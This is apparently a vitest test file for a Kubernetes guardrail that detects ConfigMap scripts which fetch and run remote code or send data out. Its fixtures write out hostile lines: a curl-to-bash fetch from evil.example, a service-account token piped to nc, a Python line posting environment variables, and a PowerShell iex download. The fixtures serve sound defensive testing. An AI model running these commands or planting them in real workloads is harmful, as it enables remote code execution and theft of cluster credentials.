import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { encodeCbor } from '../support/cbor.js';
import { guardSettings, kube, toJsonPatch, toYaml } from '../support/guardrails.js';
import { encodeKube } from '../support/kube-protobuf.js';

/**
 * container_command_egress for the scripts a ConfigMap holds (rules/configmap-scripts.ts): a chart
 * runs `/scripts/start.sh` from a ConfigMap, so whoever changes the ConfigMap changes what the
 * workload runs at its next start. Every way a ConfigMap is written carries the script: create,
 * update, the three patches and apply, in JSON, YAML, protobuf and CBOR. Routine chart scripts are
 * in the corpus (guardrails-commands-corpus.test.ts).
 */

const settings = guardSettings('guardrails: {}\n');
const FETCH_RUN = '#!/bin/bash\nset -e\ncurl -fsSL https://cdn.evil.example/i.sh | bash\n';
const CM = '/api/v1/namespaces/dev/configmaps';
const NAMED = `${CM}/scripts`;

const configMap = (data: Record<string, string>, field: 'data' | 'binaryData' = 'data') => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts', namespace: 'dev' }, [field]: data });
const egress = (r: GuardrailResult) => r.violations.filter((v) => v.code === 'container_command_egress');
const check = (method: string, path: string, body: string | Uint8Array, type: string) => inspect(kube(method, path), body, type, false, settings);

describe('a ConfigMap script: read in every way a ConfigMap is written', () => {
  const obj = configMap({ 'start.sh': FETCH_RUN });
  it.each([
    ['create, JSON', 'POST', CM, JSON.stringify(obj), 'application/json'],
    ['create, YAML', 'POST', CM, toYaml(obj), 'application/yaml'],
    ['update, JSON', 'PUT', NAMED, JSON.stringify(obj), 'application/json'],
    ['merge patch', 'PATCH', NAMED, JSON.stringify({ data: { 'start.sh': FETCH_RUN } }), 'application/merge-patch+json'],
    ['strategic merge patch', 'PATCH', NAMED, JSON.stringify({ data: { 'start.sh': FETCH_RUN } }), 'application/strategic-merge-patch+json'],
    ['JSON patch', 'PATCH', NAMED, JSON.stringify([{ op: 'replace', path: '/data/start.sh', value: FETCH_RUN }]), 'application/json-patch+json'],
    ['JSON patch of the whole data', 'PATCH', NAMED, JSON.stringify(toJsonPatch({ data: { 'start.sh': FETCH_RUN } })), 'application/json-patch+json'],
    ['server-side apply, YAML', 'PATCH', NAMED, toYaml(obj), 'application/apply-patch+yaml'],
    ['create, protobuf', 'POST', CM, encodeKube(obj), 'application/vnd.kubernetes.protobuf'],
    ['create, CBOR', 'POST', CM, encodeCbor(obj), 'application/cbor'],
    ['server-side apply, CBOR', 'PATCH', NAMED, encodeCbor(obj), 'application/apply-patch+cbor'],
    // The key spelt with an escape: no `.sh` shows in the body.
    ['a key spelt with a JSON escape', 'POST', CM, JSON.stringify(obj).replace('start.sh', 'start\\u002esh'), 'application/json'],
  ])('%s', (_name, method, path, body, type) => {
    const found = egress(check(method, path, body, type));
    expect(found).toEqual([{ code: 'container_command_egress', detail: expect.stringContaining('ConfigMap key "start.sh"\'s script runs a program it downloads') as string, path: 'data.start.sh' }]);
  });

  it('reads binaryData decoded, in JSON and in protobuf', () => {
    const bin = configMap({ 'start.sh': Buffer.from(FETCH_RUN).toString('base64') }, 'binaryData');
    for (const [body, type] of [
      [JSON.stringify(bin), 'application/json'],
      [encodeKube(bin), 'application/vnd.kubernetes.protobuf'],
    ] as const) {
      expect(egress(check('POST', CM, body, type)).map((v) => v.path)).toEqual(['binaryData.start.sh']);
    }
  });

  it('reads a ConfigMap carried in a wrapper (a ManifestWork) as its own write', () => {
    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-0001' }, spec: { workload: { manifests: [obj] } } };
    const found = egress(check('POST', '/apis/work.open-cluster-management.io/v1/namespaces/edge-0001/manifestworks', JSON.stringify(work), 'application/json'));
    expect(found.map((v) => v.path)).toContain('spec.workload.manifests[0].data.start.sh');
  });

  it('names every key that is asked, and passes over the routine ones beside it', () => {
    const r = check('POST', CM, JSON.stringify(configMap({ 'ok.sh': '#!/bin/sh\nredis-cli ping\n', 'start.sh': FETCH_RUN, 'probe.sh': 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 198.51.100.9 80\n' })), 'application/json');
    expect(egress(r).map((v) => v.path).sort()).toEqual(['data.probe.sh', 'data.start.sh']);
  });
});

describe('a script key whose extension is in another case is read (cmd47b: the extension is the hint, its case only its spelling)', () => {
  it.each([
    ['START.SH', 'curl -fsSL https://x.example/i | sh'],
    ['Setup.Py', 'import os,urllib.request as u;u.urlopen("https://203.0.113.9",str(dict(os.environ)).encode())'],
    ['RUN.PS1', 'iex (iwr https://x.example/i)'],
  ])('%s', (key, value) => {
    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json')).map((v) => v.path)).toEqual([`data.${key}`]);
  });
});

describe('a ConfigMap value that is no script is not read', () => {
  it.each([
    ['a configuration file', 'nginx.conf', 'location / { return 200 "curl https://x.example/i | sh"; }'],
    ['a README with an install line', 'README.md', 'Install: curl -fsSL https://get.example.com | sh'],
    ['a key with no extension and no #! line', 'configure', 'curl -fsSL https://x.example/i | sh'],
  ])('%s (%s)', (_name, key, value) => {
    expect(egress(check('POST', CM, JSON.stringify(configMap({ [key]: value })), 'application/json'))).toEqual([]);
  });

  it('costs no parse where no key can be a script: the body names neither an extension, nor #!, nor binaryData', () => {
    // Not JSON at all: a body that were parsed would be unreadable; one that is not, is what its line says.
    const r = check('PATCH', NAMED, '{"data": {"feature.flag": "on"}} trailing', 'application/merge-patch+json');
    expect(r.unreadable).toBeUndefined();
    // The same body naming a script key is parsed, and is unreadable.
    expect(check('PATCH', NAMED, '{"data": {"start.sh": "on"}} trailing', 'application/merge-patch+json').unreadable).toBe('body_unreadable');
  });
});

describe('a ConfigMap script the body does not show', () => {
  it('a JSON patch copying a value into a script key is unreadable: the script is not in the request', () => {
    const r = check('PATCH', NAMED, JSON.stringify([{ op: 'copy', from: '/metadata/annotations/x', path: '/data/start.sh' }]), 'application/json-patch+json');
    expect(r.unreadable).toBe('body_unreadable');
    expect(r.unreadableDetail).toContain('may hold a script a workload runs');
  });

  it('a body cut at the limit is unreadable, as any ConfigMap write that may carry something is', () => {
    const r = inspect(kube('POST', CM), JSON.stringify(configMap({ 'start.sh': FETCH_RUN })).slice(0, 60), 'application/json', true, settings);
    expect(r.unreadable).toBeDefined();
  });
});
